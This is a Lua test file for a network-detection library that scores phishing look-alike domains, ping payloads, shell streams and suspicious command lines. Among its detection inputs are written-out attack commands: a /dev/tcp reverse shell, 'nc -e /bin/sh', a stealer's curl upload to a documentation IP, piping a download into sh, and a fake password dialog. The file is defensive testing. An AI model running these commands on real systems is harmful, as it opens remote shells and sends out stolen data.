-- scripts/lib under plain luajit:  luajit tests/detectors/test_lib.lua scripts/lib
package.path = (arg[1] or "scripts/lib") .. "/?.lua;" .. package.path

-- lunette.names with what the engine hands it; nothing here asks for suffixes.
local function internal(name, ...)
    return assert(loadfile((arg[1] or "scripts/lib") .. "/../../lua-api/" .. name))(...)
end
package.preload["lunette.names"] = function()
    return internal("names.lua", { helpers = { text = function() end }, suffixes = {} }, internal)
end

local failures, checks = 0, 0
local function check(what, got, expected)
    checks = checks + 1
    if got == expected then return end
    failures = failures + 1
    io.stderr:write(("%s: got %s, expected %s\n"):format(what, tostring(got), tostring(expected)))
end

-- ---------------------------------------------------------------- punycode: samples of RFC 3492 section 7.1, and Python's idna codec
local punycode = internal("punycode.lua")
for text, expected in pairs {
    ["egbpdaj6bu4bxfgehfvwxn"] = "ليهمابتكلموشعربي؟",
    ["ihqwcrb4cv8a8dqg056pqjye"] = "他们为什么不说中文",
    ["Proprostnemluvesky-uyb24dma41a"] = "Pročprostěnemluvíčesky",
    ["3B-ww4c5e180e575a65lsy2b"] = "3年B組金八先生",
    ["mnich-kva"] = "münich",
    ["80ak6aa92e"] = "аррӏе",
    ["pple-43d"] = "аpple",
} do
    local points = punycode.decode(text)
    check("punycode " .. text, points and punycode.text(points), expected)
    check("encoded " .. expected, punycode.encode(points), text)
end
check("not base 36", punycode.decode("a-b!"), nil)
check("ends inside a number", punycode.decode("a-z"), nil)
check("overflow", punycode.decode("99999999999999999999"), nil)
check("too long", punycode.decode(("a"):rep(64)), nil)
check("no prefix", punycode.text(punycode.points("apple")), "apple")
check("utf-8 stays", punycode.text(punycode.points("äpple")), "äpple")
check("broken utf-8 has one point a byte", #punycode.points("\208\208a\255"), 4)

-- ---------------------------------------------------------------- look-alikes
local judge = require("lookalike").new({
    brands = { "apple", "icloud", "itunes", "facetime" }, products = { "appstore" }, domains = { "apple.com", "icloud.com" },
    lures = { id = 2, login = 2, verify = 2, secure = 2, support = 1, my = 0, account = 2 },
}).judge
local function kind(name, registrable)
    local found = judge(name, registrable or name:match("[^.]+%.[^.]+$"))
    return found and found.kind
end
for _, name in ipairs {
    "snapple.com", "pineapple.com", "applebees.com", "appleton.edu", "applegate.com", "appleinsider.com", "apple-pie.com", "apple.de", "bigapple.com",
    "grapple.com", "maple-login.com", "ample-account.com", "apply-secure.com", "apples-login.com", "cloud-login.com", "mcloud-id.com",
    "candidapple.com", "apple.stackexchange.com", "xn--mnich-kva.com", "myicloud.com", "xn--55qx5d.com", "xn--.com", "a.b", "",
    "appstore.com", "app-store-login.com", "apple-login.example.com", "icloud.example.com", "xn--bcher-kva.example.com", "lcloud.example.com",
} do
    check(name, kind(name), nil)
end
for name, expected in pairs {
    ["xn--80ak6aa92e.com"] = "homoglyph", ["xn--pple-43d.com"] = "homoglyph", ["app1e.com"] = "homoglyph", ["icl0ud.com"] = "homoglyph",
    ["lcloud-verify.com"] = "homoglyph", ["login.app1eid.com"] = "homoglyph",
    ["apple-id-verify.com"] = "keyword", ["icloud-login.net"] = "keyword", ["verlfy-apple.com"] = "keyword", ["myappleid.net"] = "keyword",
    ["supportapple.net"] = "keyword", ["appleid2-secure.com"] = "keyword",
    ["aplpe-login.com"] = "misspelling", ["applle-id.com"] = "misspelling", ["aple-account.com"] = "misspelling",
    ["apple.com.evil.net"] = "nested", ["appleid.apple.com-verify.xyz"] = "nested", ["www-apple-com.evil.net"] = "nested",
    ["apple-com.xyz"] = "nested",
    ["xn--pple-43d.example.com"] = "homoglyph", ["app1e.example.com"] = "homoglyph", ["appleid-verify-account.example.com"] = "keyword",
    ["appstore-login.com"] = "keyword",
} do
    check(name, kind(name), expected)
end
check("no registrable domain", judge("apple.com.evil", nil), nil)
check("Cyrillic is foreign", judge("xn--80ak6aa92e.com", "xn--80ak6aa92e.com").foreign, true)
check("a digit is not", judge("app1e.com", "app1e.com").foreign, false)
check("a digit is a digit", judge("app1e.com", "app1e.com").digits, true)
check("left of the domain", judge("xn--pple-43d.example.com", "example.com").left, true)
check("a product", judge("appstore-login.com", "appstore-login.com").product, true)
check("weak lure", judge("apple-support.com", "apple-support.com").lure, 1)

-- ---------------------------------------------------------------- ping layouts: bytes of real pings (zeek's traces) and what no ping sends
local ping = require "ping_layout"
local function hex(text) return (text:gsub("%s", ""):gsub("%x%x", function(h) return string.char(tonumber(h, 16)) end)) end
local function counter(from, to)
    local out = {}
    for i = from, to do out[#out + 1] = string.char(i % 256) end
    return table.concat(out)
end
local now = 0x4f85e043
check("macOS", ping.of(hex "4f85e043000eebff" .. counter(8, 55), now), "bsd")
check("macOS, microseconds too many", ping.of(hex "4f85e043ff0eebff" .. counter(8, 55), now), "linux")
check("Linux", ping.of(hex "43e0854f00000000ffeb0e0000000000" .. counter(16, 55), now), "linux")
check("Windows", ping.of("abcdefghijklmnopqrstuvwabcdefghi", now), "windows")
check("Cisco", ping.of(hex "0000000001020304" .. hex("abcd"):rep(28), now), "cisco")
check("zeros behind a time", ping.of(hex "0102030405060708" .. ("\0"):rep(48), now), "pattern")
check("ping -p", ping.of(hex "4f85e043000eebff" .. hex("deadbeef"):rep(12), now), "pattern")
check("counter", ping.of(counter(0, 31), now), "counter")
check("short", ping.of("abcd", now), "short")
local text = "uid=501(joe) gid=20(staff) groups=20(staff),12(everyone),61(localaccounts)"
check("text", ping.of(text:sub(1, 64), now), "unknown")
local ipv4 = hex "45000054000040004001" .. ("\1"):rep(10) .. ("data"):rep(16)
check("IPv4 inside", ping.holds_ipv4(ipv4, 84), true)
check("IPv4 of another length", ping.holds_ipv4(ipv4, 200), false)
check("ptunnel", ping.is_ptunnel(hex "d5200880 0a000001"), true)

-- ---------------------------------------------------------------- heads of raw streams
local head = require "raw_head"
for _, prompt in ipairs { "bash-3.2$ ", "sh-3.2# id", "bash: no job control in this shell\nbash-3.2$ ", "joe@Mac-mini ~ % ", "Macbook:~ joe$ " } do
    check(prompt, head.prompt(prompt) ~= nil, true)
end
for _, greeting in ipairs { "220 mail ESMTP\r\n", "+OK ready\r\n", "RFB 003.889\n", "SSH-2.0-OpenSSH_9.8\r\n", "{\"a\":1}\n", "price: 5$ only" } do
    check(greeting, head.prompt(greeting), nil)
end
check("command", head.command("uname -a\n"), "uname -a")
check("CR LF is a protocol's", head.command("id\r\n"), nil)
check("a key is no command", head.command("id: 7\n"), nil)
check("id", head.is_id_output("uid=501(joe) gid=20(staff)\n"), true)
check("script", head.file("#!/bin/sh\necho"), "script (#!/bin/sh)")
check("script with a space", head.file("#! /bin/sh\n"), "script (#! /bin/sh)")
check("Mach-O", head.file(hex "cffaedfe07000001"), "Mach-O program")
check("stager", head.file(hex "43b00200 4d5ae800000000" .. "x", 20000), "program behind its length, as stagers send it")
check("length that does not fit", head.file(hex "00010000 4d5ae800000000" .. "x", 20000), nil)
check("text", head.file("hello\n"), nil)
check("typed", head.is_typed("hello\nhow are you?\n"), true)
check("not typed", head.is_typed("EHLO x\r\n"), false)
check("JSON", head.is_typed("{\"id\":1}\n"), false)

-- ---------------------------------------------------------------- marks of HTTP requests
local marks = require "http_marks"
local function weigh(r)
    r.port, r.length, r.request_length = r.port or 80, r.length or 0, r.request_length or 0
    local _, weight = marks.of(r, { large = 100000, long_query = 300 })
    return marks.severity(weight)
end
check("plain GET", weigh { method = "GET", url = "/", status = 200, content_type = "text/html" }, "info")
check("GET of JSON without an ending", weigh { method = "GET", url = "/v1/things", status = 200, content_type = "application/json" }, "info")
check("GET of a script", weigh { method = "GET", url = "/install.sh?x=1", status = 200, content_type = "text/plain" }, "low")
check("absolute form", weigh { method = "GET", url = "http://a.example/", status = 200, content_type = "text/html" }, "info")
check("script from an address", weigh { method = "GET", url = "/a.sh", status = 200, host_is_address = true }, "medium")
check("a stealer's zip", weigh { method = "POST", url = "/joinsystem", status = 200, request_length = 5e6, length = 2, host_is_address = true,
    request_content_type = "multipart/form-data; boundary=--x" }, "high")
check("nothing known", weigh {}, "info")

-- ---------------------------------------------------------------- the ledger
-- lunette.state and lunette.records, as far as the libraries use them.
local function state()
    local map = {}
    return { get = function(_, key) return map[key] end, set = function(_, key, value) map[key] = value end, each = function() return pairs(map) end }
end
local function records(fields)
    local map = {}
    local function fresh()
        local record = { at = function(self, name, i) return self[name][i] end, put = function(self, name, i, value) self[name][i] = value end }
        for name, kind in pairs(fields) do
            local count = tonumber(kind:match("%[(%d+)%]"))
            record[name] = kind == "bool" and false or 0
            if count then
                record[name] = {}
                for i = 0, count - 1 do record[name][i] = 0 end
            end
        end
        return record
    end
    return { get = function(_, key) return map[key] end, each = function() return pairs(map) end,
        make = function(_, key)
            map[key] = map[key] or fresh()
            return map[key]
        end }
end
local ledger = require "ledger"
local categories = { { group = "elsewhere", name = "elsewhere" }, { group = "Apple", name = "software-update" }, { group = "Apple", name = "maps" },
    { group = "known", name = "maps" } }
local book = ledger.new(records(ledger.ACCOUNT_FIELDS), records(ledger.host_fields(#categories)), categories,
    function(name) return name == "swscan.apple.com" and "catalogue; of updates" or nil end)
for _ = 1, 18 do book.add("192.168.1.20", "swscan.apple.com", 2, 1000, 2333333) end
for _ = 1, 206 do book.add("192.168.1.20", "gspe21-ssl.ls.apple.com", 3, 1000, 110650) end
book.add("192.168.1.20", "example.com", 1, 10, 20)
book.add("192.168.1.20", "example.net", 1, 10, 2000)
book.add("192.168.1.21", "203.0.113.5", 1, 1, 1)
local hosts, all = book.by_host(1, 10)
check("hosts shown", #hosts, 1)
check("hosts in all", all, 2)
check("names", #hosts[1].rows, 4)
check("left out", hosts[1].left, 0)
check("as the diary has it", table.concat(hosts[1].rows[1], " "), "swscan.apple.com software-update catalogue 18 18 kB 42 MB")
check("names beyond the bound", book.by_host(1, 1)[1].left, 2)
check("totals", table.concat(book.total_rows(5)[2], " "), "192.168.1.20 Elsewhere 2 20 B 2.0 kB")
check("totals of the busiest", #book.total_rows(1), 2)
check("the card", ledger.line(book.purposes("192.168.1.20", "Apple"), 8), "software-update 42 MB in 18 connections, maps 23 MB in 206")
check("cut", ledger.line(book.purposes("192.168.1.20", "Apple"), 1), "software-update 42 MB in 18 connections, 1 more")
check("nobody", #book.purposes("192.168.1.99", "Apple"), 0)
local elsewhere = book.names({ ["192.168.1.20"] = true }, "elsewhere")
check("names elsewhere", ledger.line(elsewhere["192.168.1.20"], 8), "example.net 2.0 kB in 1 connection, example.com 30 B in 1")
check("of those asked for", elsewhere["192.168.1.21"], nil)
check("all of a host", table.concat({ book.sum("192.168.1.21") }, " "), "1 2")
check("another list of categories is another version", ledger.version(categories) ~= ledger.version({ categories[1], categories[3] }), true)

-- ---------------------------------------------------------------- certificates
local certificates = require "certificates"
local issuer = certificates.new({ { text = "apple inc.", kind = "apple", what = "Apple" }, { text = "digicert", kind = "used", what = "DigiCert" },
    { text = "zscaler", kind = "product", what = "Zscaler" } }).issuer
check("Apple's CA", issuer("CN=Apple IST CA 2 - G1, OU=Certification Authority, O=Apple Inc., C=US"), "apple")
check("the other way round", issuer("C=US, O=Apple Inc., CN=Apple Public EV Server RSA CA 2 - G1"), "apple")
check("only says so", issuer("O=Apple Inc., CN=Root"), nil)
check("elsewhere in the name", issuer("OU=Apple Inc., CN=Apple Root, O=Nobody"), nil)
check("a comma in a value", issuer("C=US, O=DigiCert\\, Inc., CN=x"), "used")
check("case", issuer("CN=ZSCALER Root"), "product")
check("nothing", issuer(""), nil)
check("common name", certificates.common_name("C=US, CN=a\\,b, O=x"), "a,b")
local known = state()
check("first name", certificates.count(known, "k", "a", 3), 1)
check("the same name", certificates.count(known, "k", "a", 3), 1)
certificates.count(known, "k", "b", 3)
certificates.count(known, "k", "c", 3)
check("bounded", certificates.count(known, "k", "d", 3), 3)

-- ---------------------------------------------------------------- what DNS told
local memory = require "dns_memory"
local dns = memory.new { answers = state(), asked = state(), clients = records(memory.CLIENT_FIELDS), resolvers = records(memory.RESOLVER_FIELDS),
    usual = state() }
local many = {}
for i = 1, 12 do many[i] = "192.0.2." .. i end
dns.learn("a", many)
for i = 1, 12 do check("address " .. i, dns.gave("a", "192.0.2." .. i), true) end
check("of another client", dns.gave("b", "192.0.2.1"), nil)
for i = 1, 5 do dns.answered("a", "r1", "4", nil, nil, 100 + i) end
dns.answered("a", "r2", "4", "www.apple.com", "x.akadns.net", 110)
check("seen", table.concat({ dns.seen("a", "4") }, " "), "6 101")
check("none of the other family", dns.seen("a", "6"), 0)
check("nobody", dns.seen("b", "4"), nil)
check("told, by a chain", dns.was_told("a", "4", "www.apple.com"), "x.akadns.net")
check("apart", table.concat({ dns.apart("a", "r2") }, " "), "1 r1 5 105")
check("the usual one is not apart", dns.apart("a", "r1"), nil)
dns.answered("a", "r2", "4", nil, nil, 111)
check("nor one that answers other names", dns.apart("a", "r2"), nil)
dns.hide("a", 200)
check("hidden", dns.is_hidden("a", 260, 100), true)
check("not for ever", dns.is_hidden("a", 360, 100), false)
check("nor for others", dns.is_hidden("b", 260, 100), false)

-- ---------------------------------------------------------------- command lines
local arguments = require "arguments"
local function weight_of(tool, words) return select(2, arguments.judge(tool, words)) end
check("plain curl", weight_of("curl", { "curl", "https://www.example.com/" }), 0)
check("a stealer's upload", weight_of("curl", { "curl", "-s", "-X", "POST", "-H", "user: x", "-F", "file=@/tmp/out.zip", "http://203.0.113.9/joinsystem" }), 5)
check("joined text", weight_of("curl", { "curl -fsSLo /tmp/x http://203.0.113.9/a.sh" }), 5)
check("the same as one text", weight_of("curl", "curl -fsSLo /tmp/x http://203.0.113.9/a.sh"), 5)
check("a header is no file", weight_of("curl", { "curl", "-H", "-o /tmp/x", "https://www.example.com/" }), 0)
check("an address at home", weight_of("curl", { "curl", "http://192.168.1.5/x" }), 0)
check("into a launch agent", weight_of("curl", { "curl", "-o", "/Users/a/Library/LaunchAgents/x.plist", "https://x.example/x" }), 4)
check("through a proxy", weight_of("curl", { "curl", "-x", "socks5://127.0.0.1:9050", "https://x.example/" }), 2)
check("nc -e", weight_of("nc", { "nc", "-e", "/bin/sh", "x.example", "443" }), 5)
check("nc to a name", weight_of("nc", { "nc", "x.example", "443" }), 0)
check("nc -z", weight_of("nc", { "nc", "-zv", "x.example", "1-100" }), 2)
check("plain ssh", weight_of("ssh", { "ssh", "u@x.example" }), 0)
check("ssh -fNR", weight_of("ssh", { "ssh", "-fNR", "2222:localhost:22", "u@x.example" }), 5)
check("ssh of git", weight_of("ssh", { "ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com", "git-upload-pack 'x'" }), 0)
check("scp out", weight_of("scp", { "scp", "-P", "2222", "/a.zip", "u@x.example:/b" }), 2)
check("scp in", weight_of("scp", { "scp", "u@x.example:/b", "." }), 1)
check("ping -p", weight_of("ping", { "ping", "-p", "6461", "x.example" }), 3)
check("ping", weight_of("ping", { "ping", "-c", "4", "x.example" }), 0)
check("dig", weight_of("dig", { "dig", "+short", "x.example" }), 0)
check("dig TXT elsewhere", weight_of("dig", { "dig", "+short", "TXT", "x.example", "@203.0.113.53" }), 4)
check("networksetup asks", weight_of("networksetup", { "networksetup", "-getwebproxy", "Wi-Fi" }), 0)
check("networksetup sets", weight_of("networksetup", { "networksetup", "-setdnsservers", "Wi-Fi", "203.0.113.53" }), 4)
check("networksetup takes back", weight_of("networksetup", { "networksetup", "-setdnsservers", "Wi-Fi", "Empty" }), 0)
check("a password dialog", weight_of("osascript", { "osascript", "-e", 'display dialog "x" default answer "" with hidden answer' }), 4)
check("a shell by file", weight_of("bash", { "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1" }), 5)
check("a download into sh", weight_of("sh", { "sh", "-c", "curl -fsSL https://x.example/i | sh" }), 3)
check("a download into jq", weight_of("sh", { "sh", "-c", "curl -fsSL https://x.example/i | jq ." }), 0)
check("python -c socket", weight_of("python", { "python3", "-c", "import socket;s=socket.socket()" }), 4)
check("python -m", weight_of("python", { "python3", "-m", "venv", "x" }), 0)
check("no words", weight_of("curl", {}), 0)
check("nobody reads it", weight_of("cat", { "cat", "x" }), 0)
check("words of quotes", table.concat(arguments.words("a 'b c' \"d e\" f"), "|"), "a|b c|d e|f")
check("an open quote", #arguments.words("a 'b c"), 3)
check("target of a URL", arguments.target { "curl", "-s", "https://u@x.example:8080/a?b" }, "x.example")
check("target of ssh", arguments.target { "ssh", "-N", "u@203.0.113.9" }, "203.0.113.9")

-- ---------------------------------------------------------------- who stands behind a tool
local process = require "tool_process"
check("tool", process.tool_of("curl"), "curl")
check("with a version", process.tool_of("python3.11"), "python")
check("no tool", process.tool_of("Safari"), nil)
check("signed as curl", select(2, process.tool_of("updater", "com.apple.curl")), "curl")
check("signed as what it is", select(2, process.tool_of("curl", "com.apple.curl")), nil)
check("python by signature", select(2, process.tool_of("python3", "com.apple.python3")), nil)
check("at its place", process.place("curl", "/usr/bin/curl", nil, false), nil)
check("Homebrew's", process.place("curl", "/opt/homebrew/opt/curl/bin/curl", nil, false), nil)
check("in /tmp", process.place("curl", "/private/tmp/curl", nil, true).attack, "T1036.005")
check("renamed", process.place("x", "/private/tmp/x", "curl", true).attack, "T1036.003")
local function lineage(text)
    local list = {}
    for name, class in text:gmatch("([^=<]+)=(%a*)") do list[#list + 1] = { name = name:match("^%s*(.-)%s*$"), class = class ~= "" and class or nil } end
    return list
end
local function verdict(text, weight, manner, user)
    local standing = process.standing(lineage(text), user, function(name) return name == "Painter" end, false)
    return process.severities[process.rank(standing, weight, manner or "moves")], standing
end
check("a macro", verdict("sh=shell < Microsoft Word=office < launchd=launcher", 0), "medium")
check("a macro that fetches", verdict("sh=shell < Microsoft Word=office < launchd=launcher", 1), "high")
check("a terminal", verdict("zsh=shell < login=shell < Terminal=terminal", 6, "moves", true), "info")
check("launchd", verdict("launchd=launcher", 0), "low")
check("launchd, and marks", verdict("sh=shell < launchd=launcher", 3), "medium")
check("an application", verdict("sh=shell < Painter=", 0), "medium")
check("a program", verdict("helper=", 0), "low")
check("git's ssh", verdict("git=developer < Painter=", 0), "info")
check("scp's ssh", select(2, verdict("scp=network < Mail=mail", 0)).name, "Mail")
check("ping is diagnosis", verdict("sh=shell < Painter=", 0, "looks"), "low")
check("nobody known", verdict("", 0), "info")
check("eyes that agree", process.together(1, select(2, verdict("Mail=mail", 0))), 3)
check("nothing on the wire", process.together(0, select(2, verdict("Mail=mail", 0))), 1)
check("a person on the wire", process.together(2, select(2, verdict("Terminal=terminal", 0, "moves", true))), 2)
for rank = 0, 3 do
    local least, most = process.score(rank, 0, 0), process.score(rank, 1, 60)
    check("score band " .. rank, least >= rank * 2.5 and most < rank * 2.5 + 2.5, true)
end

-- ---------------------------------------------------------------- agents
local http = require "tool_http"
local shipped = { ["8.7.1"] = "14.6 to 26.0", ["8.1.2"] = "13.5 to 14.1" }
check("releases in common", http.may_agree("14.6 to 26.0", "15"), true)
check("none in common", http.may_agree("13.5 to 14.1", "15.2"), false)
check("later", http.may_agree("14.5", "10.15 or later"), true)
check("a list", http.may_agree("10.15, 11", "11.4"), true)
check("nothing known", http.may_agree("14.6", ""), true)
check("shipped", http.curl_origin("curl/8.7.1", shipped, true, "15.1"), " (macOS 14.6 to 26.0 ships it)")
check("of another release", select(3, http.curl_origin("curl/8.1.2", shipped, true, "15.1")), true)
check("shipped by none", select(3, http.curl_origin("curl/8.15.0", shipped, true, "15.1")), true)
check("by none, and who knows", select(3, http.curl_origin("curl/8.15.0", shipped, false)), false)
check("RustBucket's", http.foreign_system("mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; trident/4.0)"), "Windows")
check("Safari", http.foreign_system("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605"), nil)
check("a phone", http.foreign_system("Mozilla/5.0 (Linux; Android 14; Pixel 8)"), "Android")
check("a daemon", http.foreign_system("trustd/3.0"), nil)
check("a guest's program", http.is_guest_of("prl_naptd"), true)
check("no guest's", http.is_guest_of(nil), false)

-- ---------------------------------------------------------------- ssh by rhythm, raw streams
local ssh = require "tool_ssh"
check("up", ssh.way(6e6, 1e5, 5e6), "up")
check("both ways", ssh.way(6e6, 5e6, 5e6), nil)
check("an answer", ssh.is_answer(800, 72), true)
check("a keystroke", ssh.is_answer(36, 36), false)
check("chaff and its echo", ssh.is_answer(720, 720), false)
check("a log that flows out", ssh.is_answer(800, 0), false)
local raw = require "tool_raw"
check("tftp writes", raw.tftp("\0\2a.bin\0octet\0"), "write")
check("tftp's file", select(2, raw.tftp("\0\1b.bin\0netascii\0blksize\0001428\0")), "b.bin")
check("no tftp", raw.tftp("\0\1\2\3"), nil)
check("a shell's first bytes", raw.shell({ server_port = 4444 }, "bash-3.2$ ", "").is_shell, true)
check("commands without an answer", raw.shell({ server_port = 4444, answered = false }, "", "id\n"), nil)

local tool_http = require "tool_http"
local function is_dotted(text) return text:find("^%d+%.%d+%.%d+%.%d+$") ~= nil or text:find(":", 1, true) ~= nil end
for _, host in ipairs { "203.0.113.9", "203.0.113.9.", "[2001:db8::1]", "2001:db8::1", "3405803785", "0xcb007109", "0313.0.113.9", "0xCB.0.28937" } do
    check("an address: " .. host, tool_http.is_literal(host, is_dotted), true)
end
for _, host in ipairs { "example.com", "example.com.", "1.example", "cafe", "0x", "1.2.3.4.5.6", "", "face.b00c", "a.1x" } do
    check("no address: " .. host, tool_http.is_literal(host, is_dotted), false)
end

-- ---------------------------------------------------------------- the card's tools
local tool_book = require "tool_book"
local tools = tool_book.new(state())
for _ = 1, 3 do tools.note("192.168.1.20", "curl 8.7.1", "a.example") end
tools.note("192.168.1.20", "ssh", "203.0.113.9")
tools.note("192.168.1.20", "ssh", "203.0.113.10")
local told
tools.each_changed(function(_, lines) told = table.concat(lines, "; ") end)
check("lines of the card", told, "curl 8.7.1 3 times to 1 place; ssh 2 times to 2 places")
told = nil
tools.each_changed(function() told = true end)
check("nothing new", told, nil)

-- ---------------------------------------------------------------- figures in words
local figures = require "figures"
for seconds, words in pairs { [0.42] = "0.4 s", [40] = "40 s", [720] = "12 min", [19800] = "5.5 h", [259200] = "3.0 days" } do
    check("duration " .. seconds, figures.duration(seconds), words)
end
for bytes, words in pairs { [812] = "812 bytes", [999.6] = "1.0 kB", [4200] = "4.2 kB", [9990] = "10 kB", [42e6] = "42 MB" } do
    check("bytes " .. bytes, figures.bytes(bytes), words)
end
check("a third", figures.percent(1, 3), 33)
check("a share of nothing", figures.percent(1, 0), 0)
check("rounded", figures.round(1.23456), 1.23)
check("one", figures.count(1, "name"), "1 name")
check("none", figures.count(0, "query", "queries"), "0 queries")

-- ---------------------------------------------------------------- web services
local function table_of(file)
    local rows, columns = {}, nil
    for line in assert(io.open((arg[1] or "scripts/lib") .. "/../data/" .. file)):lines() do
        if line:sub(1, 1) ~= "#" then
            local cells = {}
            for cell in (line .. "\t"):gmatch("([^\t]*)\t") do cells[#cells + 1] = cell end
            if not columns then
                columns = cells
            else
                local row = {}
                for i = 1, #columns do row[columns[i]] = cells[i] end
                rows[#rows + 1] = row
            end
        end
    end
    return rows
end
local sets = {}
local cloud = require("cloud").load { tsv = table_of, set = { domains = function(list) sets[#sets + 1] = list return list end } }
local function kind(name)
    local found = cloud.of(name)
    return found and found.category .. " " .. found.service
end
for name, expected in pairs {
    ["www.dropbox.com"] = "storage Dropbox", ["content.dropboxapi.com"] = "storage Dropbox", ["notdropbox.com"] = "nil", ["com"] = "nil", [""] = "nil",
    ["gist.githubusercontent.com"] = "paste GitHub Gist", ["raw.githubusercontent.com"] = "code GitHub", ["a.gist.githubusercontent.com"] = "code GitHub",
    ["bucket.s3.eu-west-1.amazonaws.com"] = "cloud-platform Amazon S3", ["s3.us-east-2.amazonaws.com"] = "cloud-platform Amazon S3",
    ["ec2.eu-west-1.amazonaws.com"] = "cloud-platform Amazon Web Services", ["checkip.amazonaws.com"] = "ip-lookup checkip.amazonaws.com",
    ["abc.trycloudflare.com"] = "tunnel Cloudflare quick tunnel", ["region1.v2.argotunnel.com"] = "tunnel Cloudflare Tunnel",
    ["eth.merkle.io"] = "nil", ["eth.example.com"] = "blockchain Ethereum RPC", ["eth.a.b.com"] = "nil", ["ethereum.org"] = "nil",
    ["x.mooo.com"] = "dynamic-dns FreeDNS", ["pool.supportxmr.com"] = "mining supportxmr.com", ["abc.onion.ws"] = "tor2web Tor gateway",
    ["api.telegram.org"] = "messaging Telegram", ["icloud.com"] = "nil", ["apple.com"] = "nil",
} do
    check("service of " .. name, tostring(kind(name)), expected)
end
check("no name", cloud.of(nil), nil)
check("its own program", cloud.of("api.pcloud.com").apps["pCloud Drive"], true)
local categories = {}
for word in ("storage messaging paste code tunnel file-drop callback mining ip-lookup tor2web shortener dynamic-dns blockchain cloud-platform p2p other"):gmatch("%S+") do
    categories[word] = true
    check("set of " .. word, #cloud.set(word) > 0, true)
end
check("of two", #cloud.set("paste", "tor2web"), #cloud.set("paste") + #cloud.set("tor2web"))
check("no such category", pcall(cloud.set, "stroage"), false)
local seen = {}
for _, row in ipairs(table_of("cloud_services.tsv")) do
    check("category of " .. row.name, categories[row.category], true)
    check("once: " .. row.name, seen[row.name], nil)
    check("whole: " .. row.name, row.service ~= "" and row.source ~= "" and row.source ~= nil and row.name:lower() == row.name, true)
    seen[row.name] = true
end

print(("%d checks, %d failures"):format(checks, failures))
os.exit(failures == 0 and 0 or 1)
